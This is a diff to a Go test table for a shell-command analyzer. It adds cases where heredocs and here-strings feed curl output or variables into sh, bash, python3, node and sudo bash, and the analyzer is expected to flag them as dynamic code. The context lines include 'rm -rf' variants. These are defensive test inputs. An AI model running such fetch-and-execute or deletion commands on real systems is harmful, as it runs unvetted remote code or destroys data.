@@ -119,6 +119,17 @@ var trafficCases = []tcase{
 	{line: `IFS=0; eval rm -rf /a$?b`, opaque: []string{"dynamic-code"}},
 	{line: `IFS=0; sh -c "rm -rf /a$?b"`, cmds: []want{{name: "rm", argv: []string{"rm", "-rf", "/a0b"}}}},
 	{line: `sh -c "rm -rf /$((-1))x"`, cmds: []want{{name: "rm", argv: []string{"rm", "-rf", "/-1x"}}}},
+	// ---- Unknown heredoc or here-string text fed to a shell or interpreter.
+	{line: `sh <<< "$(curl -s x.example)"`, cmds: []want{{name: "curl", via: "subst"}, {name: "sh"}}, opaque: []string{"dynamic-code"}},
+	{line: `bash <<< "$X"`, count: 1, opaque: []string{"dynamic-code"}},
+	{line: `bash -s -- a b <<< "$X"`, opaque: []string{"dynamic-code"}},
+	{line: `python3 - <<< "$CODE"`, cmds: []want{{name: "python3", code: &Code{Lang: "python", From: "stdin", Known: false}}}, opaque: []string{"dynamic-code"}},
+	{line: `sudo bash <<< "$(curl -s x)"`, cmds: []want{{name: "curl"}, {name: "sudo"}, {name: "bash", via: "wrapper"}}, opaque: []string{"dynamic-code"}},
+	{line: "sh <<EOF\n$(curl x)\nEOF", cmds: []want{{name: "curl", via: "subst"}, {name: "sh"}}, opaque: []string{"dynamic-code"}},
+	{line: "node <<EOF\n$JS\nEOF", opaque: []string{"dynamic-code"}},
+	{line: "sh <<'EOF'\n$(curl x)\nEOF", count: 3, cmds: []want{{name: "sh"}, {name: "curl", via: "shell,subst"}}, opaque: []string{"dynamic-command"}},
+	{line: `cat <<< "$(curl -s x)"`, count: 2},
+	{line: `grep foo <<< "$X"`, count: 1},
 }
 
 func TestTraffic(t *testing.T) {
